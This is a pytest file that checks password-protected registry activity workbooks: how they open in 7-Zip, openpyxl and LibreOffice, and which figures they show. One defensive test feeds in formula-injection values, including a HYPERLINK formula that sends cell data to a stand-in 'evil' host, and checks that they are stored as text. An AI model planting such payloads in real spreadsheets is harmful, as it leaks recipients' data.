"""The activity workbook as a recipient gets it: 7-Zip opens the archive with the month's password (and not
without), openpyxl and LibreOffice open the workbook, and the numbers are activity_figures'."""

from __future__ import annotations

import csv
import datetime
import io
import shutil
import subprocess

import pytest
from django.core.files.storage import default_storage
from openpyxl import load_workbook

from feedback import services
from feedback.lib.workbook import INTEGER
from feedback.models import FeedbackReport, MonthlyPassword
from feedback.selectors import activity_figures
from portal.models import User
from tests.factories import UserFactory
from tests.feedback.conftest import YEAR, add_records, finding, make_submission, npr_row

pytestmark = pytest.mark.django_db

needs_7z = pytest.mark.skipif(shutil.which("7z") is None, reason="7-Zip (p7zip-full) is not installed")
needs_soffice = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (libreoffice-calc-nogui) missing"
)


@pytest.fixture
def produced(people, enqueued, tmp_path):
    rows = [npr_row(i % 40, 1 + i % 12, kind=("outpatient", "admission")[i % 2]) for i in range(300)]
    rows += [npr_row(i, 2, year=YEAR - 1) for i in range(5)]
    add_records(people.submitter, rows)
    make_submission(
        people.submitter,
        status="accepted_with_errors",
        findings=[finding("DATE-001", "r-9", message="event_date 2030-01-01 er utenfor perioden.")],
        period_start=datetime.date(YEAR, 1, 1),
        period_end=datetime.date(YEAR, 12, 31),
    )
    staff = UserFactory(username="fhi-wb", registry_role=User.RegistryRole.STAFF)
    report = services.activity_request(user=staff, submitter=people.submitter, register="NPR", year=YEAR)
    services.report_produce(report_id=report.pk)
    report.refresh_from_db()
    archive = tmp_path / report.file_name
    with default_storage.open(report.file.name, "rb") as file:
        archive.write_bytes(file.read())
    password = services.monthly_password_reveal(MonthlyPassword.objects.get(submitter=people.submitter))
    return report, archive, password


@needs_7z
def test_7zip_opens_the_archive_with_the_password_and_not_without(produced, tmp_path):
    _report, archive, password = produced
    out = tmp_path / "out"
    ok = subprocess.run(["7z", "x", f"-p{password}", f"-o{out}", str(archive)], capture_output=True, text=True)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert (out / f"aktivitet-NPR-{YEAR}.xlsx").exists()
    bad = subprocess.run(["7z", "x", "-pwrong", f"-o{tmp_path / 'bad'}", str(archive)], capture_output=True, text=True)
    assert bad.returncode != 0
    empty = subprocess.run(["7z", "x", "-p", f"-o{tmp_path / 'none'}", str(archive)], capture_output=True, text=True)
    assert empty.returncode != 0


def _workbook_bytes(archive, password) -> bytes:
    from feedback.lib.archives import read_encrypted_zip

    return next(iter(read_encrypted_zip(str(archive), password).values()))


def test_openpyxl_reads_the_numbers_and_the_formatting(produced, people):
    _report, archive, password = produced
    figures = activity_figures(submitter=people.submitter, register="NPR", year=YEAR)
    book = load_workbook(io.BytesIO(_workbook_bytes(archive, password)))
    month = book["Per måned"]
    assert [c.value for c in month[1]] == ["Måned", "Poster", "Pasienter"]
    assert month.freeze_panes == "A2" and month["A1"].font.bold
    body = list(month.iter_rows(min_row=2, values_only=True))
    assert body[0] == ("Januar", figures.by_month[1].records, figures.by_month[1].patients)
    assert body[-1] == ("Totalt", figures.total.records, figures.total.patients)
    assert month["B2"].number_format == INTEGER
    summary = {row[0]: row[1] for row in book["Sammendrag"].iter_rows(min_row=2, values_only=True) if row and row[0]}
    assert summary["Poster"] == figures.total.records == 300
    assert summary["Poster i fjor"] == 5
    per_category = {row[:2]: row[2] for row in book["Per kategori"].iter_rows(min_row=2, values_only=True)}
    assert per_category[("Kontakttype", "outpatient")] == per_category[("Kontakttype", "admission")] == 150
    assert per_category[("ICD-10-kapittel", "V")] == 300
    assert per_category[("Totalt", None)] == 300
    codes = list(book["Tilstandskoder"].iter_rows(min_row=2, values_only=True))
    assert codes == [("F32.1", 300, 300)]
    findings = list(book["Funn"].iter_rows(min_row=2, values_only=True))
    assert findings[0][1:4] == ("DATE-001", "Feil", "r-9") and "datoene" in findings[0][6]
    comparison = list(book["Sammenligning med i fjor"].iter_rows(min_row=1, values_only=True))
    assert comparison[0][:4] == ("Inndeling", "Kategori", f"Poster {YEAR - 1}", f"Poster {YEAR}")


@needs_soffice
def test_libreoffice_opens_the_workbook_and_shows_the_same_numbers(produced, people, tmp_path):
    _report, archive, password = produced
    xlsx = tmp_path / "aktivitet.xlsx"
    xlsx.write_bytes(_workbook_bytes(archive, password))
    out = tmp_path / "csv"
    # Filter options: comma, double quotes, UTF-8, from line 1; the last field (-1) writes every sheet.
    options = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    result = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            options,
            "--outdir",
            str(out),
            str(xlsx),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    sheets = {path.name: path for path in out.glob("*.csv")}
    assert "aktivitet-Per måned.csv" in sheets, sorted(sheets)
    rows = list(csv.reader(sheets["aktivitet-Per måned.csv"].read_text(encoding="utf-8").splitlines()))
    figures = activity_figures(submitter=people.submitter, register="NPR", year=YEAR)
    assert rows[0] == ["Måned", "Poster", "Pasienter"]
    as_number = lambda text: int(text.replace("\u00a0", "").replace(" ", "").replace(",", ""))  # noqa: E731
    by_month = {row[0]: (as_number(row[1]), as_number(row[2])) for row in rows[1:] if row and row[0]}
    assert by_month["Mars"] == (figures.by_month[3].records, figures.by_month[3].patients)
    assert by_month["Totalt"] == (figures.total.records, figures.total.patients)
    assert len(sheets) == 8


def test_schema_feedback_opens_in_7zip_too(people, enqueued, tmp_path):
    if shutil.which("7z") is None:
        pytest.skip("7-Zip missing")
    submission = make_submission(people.submitter, status="rejected", findings=[finding("SCHEMA-001")])
    services.feedback_for_submission(submission_id=submission.pk)
    report = FeedbackReport.objects.get(submission=submission)
    services.report_produce(report_id=report.pk)
    report.refresh_from_db()
    archive = tmp_path / report.file_name
    with default_storage.open(report.file.name, "rb") as file:
        archive.write_bytes(file.read())
    password = services.monthly_password_reveal(MonthlyPassword.objects.get(submitter=people.submitter))
    listing = subprocess.run(["7z", "l", "-slt", f"-p{password}", str(archive)], capture_output=True, text=True)
    assert "Method = AES-256 Deflate" in listing.stdout


def test_submitters_text_is_text_in_the_workbook(people, enqueued, tmp_path):
    """Record ids, paths and messages quoting values from a receipt, and the submitter's name, are text cells
    in the workbook, never formulas; the numbers stay numbers."""
    people.submitter.name = "=1+1"
    people.submitter.save()
    add_records(people.submitter, [npr_row(i, 3) for i in range(3)])
    hostile = [
        {**finding("DATE-001", "=1+1", message='=HYPERLINK("http://evil/?"&A1,"klikk")'), "path": "+cmd"},
        {**finding("DATE-001", "@SUM(A1)", message="-2+3"), "path": "#REF!"},
    ]
    make_submission(
        people.submitter,
        status="accepted_with_errors",
        findings=hostile,
        period_start=datetime.date(YEAR, 1, 1),
        period_end=datetime.date(YEAR, 12, 31),
    )
    report = services.activity_request(
        user=UserFactory(username="fhi-wb", registry_role=User.RegistryRole.STAFF),
        submitter=people.submitter,
        register="NPR",
        year=YEAR,
    )
    services.report_produce(report_id=report.pk)
    report.refresh_from_db()
    archive = tmp_path / report.file_name
    with default_storage.open(report.file.name, "rb") as file:
        archive.write_bytes(file.read())
    password = services.monthly_password_reveal(MonthlyPassword.objects.get(submitter=people.submitter))
    book = load_workbook(io.BytesIO(_workbook_bytes(archive, password)))
    summary = book["Sammendrag"]
    assert (summary["B2"].value, summary["B2"].data_type) == ("=1+1", "s")
    assert [c.value for c in summary["A7:B7"][0]] == ["Poster", 3] and summary["B7"].data_type == "n"
    found = {row[3].value: row for row in book["Funn"].iter_rows(min_row=2)}
    assert set(found) == {"=1+1", "@SUM(A1)"}
    for record_id, path, message in [
        ("=1+1", "+cmd", '=HYPERLINK("http://evil/?"&A1,"klikk")'),
        ("@SUM(A1)", "#REF!", "-2+3"),
    ]:
        row = found[record_id]
        assert [(c.value, c.data_type) for c in row[3:6]] == [(record_id, "s"), (path, "s"), (message, "s")]
        assert row[0].is_date
